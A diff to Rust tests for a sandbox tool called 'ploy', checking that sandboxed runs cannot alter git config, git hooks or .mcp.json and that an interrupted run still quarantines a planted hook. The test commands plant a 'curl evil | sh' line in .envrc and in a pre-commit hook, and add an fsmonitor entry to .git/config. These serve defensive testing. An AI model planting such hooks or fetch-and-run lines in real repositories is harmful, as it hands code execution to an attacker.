@@ -407,8 +407,8 @@ fn sandbox_run_keeps_git_config_and_hooks_read_only() {
     std::fs::write(world.project.join(".git/config"), "[core]\n").unwrap();
     world.own_all();
     let out = world.sandbox_sh(
-        "echo '[core] fsmonitor = x' >> .git/config; echo x > .git/hooks/pre-commit; \
-         echo '{}' > .mcp.json; echo ok > made.txt",
+        "echo ok > made.txt; echo '[core] fsmonitor = x' >> .git/config; \
+         echo x > .git/hooks/pre-commit; echo '{}' > .mcp.json",
     );
     let err = String::from_utf8_lossy(&out.stderr);
     assert_eq!(
@@ -420,14 +420,21 @@ fn sandbox_run_keeps_git_config_and_hooks_read_only() {
     assert!(err.contains("SBX-6") && err.contains(".mcp.json"), "{err}");
 }
 
-// A program that creates a PERM-7 path and waits: found attacking the
-// sandbox (#3), Ctrl-C killed ploy before it moved the path aside, so the
-// planted `.envrc` stayed with no word. Ctrl-C (SIGINT) now stops the run,
-// and the path is moved aside and reported as after any run.
+// A program that creates a path only the check after the run catches (a
+// hooks folder `core.hooksPath` names but that did not exist) and waits:
+// found attacking the sandbox (#3), Ctrl-C killed ploy before that check,
+// so the planted hook stayed with no word. Ctrl-C (SIGINT) now stops the
+// run, and the path is moved aside and reported as after any run.
 // proves: SBX-6
 #[test]
 fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
     let world = World::new();
+    std::fs::create_dir_all(world.project.join(".git")).unwrap();
+    std::fs::write(
+        world.project.join(".git/config"),
+        "[core]\n\thooksPath = tools/hooks\n",
+    )
+    .unwrap();
     world.own_all();
     let mut command = Command::new(&world.ploy);
     support::point_at(&mut command, &world.base)
@@ -437,7 +444,7 @@ fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
             "--",
             "/bin/sh",
             "-c",
-            "echo 'curl evil | sh' > .envrc; echo planted; sleep 60",
+            "mkdir -p tools/hooks && echo 'curl evil | sh' > tools/hooks/pre-commit; sleep 60",
         ])
         .current_dir(&world.project)
         .env("HOME", world.base.join("home"))
@@ -447,7 +454,7 @@ fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
         command.uid(uid).gid(gid);
     }
     let child = command.spawn().unwrap();
-    let planted = world.project.join(".envrc");
+    let planted = world.project.join("tools/hooks/pre-commit");
     let started = std::time::Instant::now();
     while !planted.exists() && started.elapsed() < std::time::Duration::from_secs(30) {
         std::thread::sleep(std::time::Duration::from_millis(20));
@@ -462,7 +469,13 @@ fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
         "{err}"
     );
     assert!(!planted.exists(), "{err}");
-    assert!(world.project.join(".envrc.ploy-blocked").exists(), "{err}");
+    assert!(
+        world
+            .project
+            .join("tools/hooks.ploy-blocked/pre-commit")
+            .exists(),
+        "{err}"
+    );
     assert!(
         err.contains("SBX-6") && err.contains("interrupted"),
         "{err}"
